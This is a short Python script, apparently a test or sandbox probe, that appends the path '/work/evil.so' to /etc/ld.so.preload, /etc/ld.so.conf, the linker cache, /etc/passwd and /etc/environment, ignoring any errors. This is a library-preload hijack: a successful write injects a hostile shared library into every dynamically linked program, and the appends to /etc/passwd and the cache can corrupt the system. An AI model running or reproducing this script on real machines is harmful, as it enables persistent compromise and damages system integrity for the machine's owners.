"""Writes /etc/ld.so.preload and the linker's cache."""

for name in ("/etc/ld.so.preload", "/etc/ld.so.conf", "/etc/ld.so.cache", "/etc/passwd", "/etc/environment"):
    try:
        open(name, "a").write("/work/evil.so\n")
    except OSError:
        pass
